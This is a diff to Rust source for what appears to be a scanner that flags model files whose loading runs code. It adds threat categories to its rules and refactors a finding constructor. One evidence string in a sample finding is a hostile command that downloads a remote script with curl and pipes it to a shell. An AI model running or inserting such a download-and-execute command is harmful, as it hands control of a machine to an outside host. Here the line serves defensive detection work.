@@ -7,7 +7,7 @@ use davy_artifact::{
 use davy_bytes::{Blame, Span, escape};
 use davy_policy::{Policy, judge};
 use davy_report::{Detail, Report};
-use davy_rules::{Advice, Confidence, Finding, Rule, Severity, Subject, advisories};
+use davy_rules::{Advice, Confidence, Finding, Rule, Severity, Threat, advisories};
 use davy_scan::{Fingerprinted, Scan, Scanned};
 
 /// A name that clears a screen, turns text around, breaks lines, closes tags and starts links.
@@ -17,6 +17,7 @@ pub static CALL: Rule = Rule {
     id: "sample-call",
     severity: Severity::Critical,
     confidence: Confidence::High,
+    threat: Threat::CodeExecution,
     summary: "loading calls something that runs code or commands",
     remediation: "do not load this file; ask its publisher for one that holds only tensors, such \
                   as safetensors, or load it with `torch.load(..., weights_only=True)` in a sandbox",
@@ -32,6 +33,7 @@ pub static HIDDEN: Rule = Rule {
     id: "sample-member",
     severity: Severity::Medium,
     confidence: Confidence::Low,
+    threat: Threat::Evasion,
     summary: "a member that some readers do not see",
     remediation: "find out who wrote the archive, and why",
     cwe: &[436],
@@ -139,19 +141,11 @@ pub fn artifact(
 pub fn finding(rule: &'static Rule, artifact: &str, span: Span, route: Route) -> Fingerprinted {
     Fingerprinted {
         finding: Finding {
-            rule,
-            severity: rule.severity,
-            confidence: rule.confidence,
-            artifact: artifact.into(),
-            span,
-            route,
             message: "loading calls `os.system`, which runs a command that the file chooses, with \
                       the rights of whoever loads it"
                 .into(),
             evidence: "os.system('curl -s http://203.0.113.7/x | sh')".into(),
-            subject: Subject::Unspecified,
-            advisories: vec![],
-            unassumed: None,
+            ..Finding::new(rule, artifact, &Site { span, route })
         },
         fingerprint: "00112233445566778899aabbccddeeff".into(),
     }
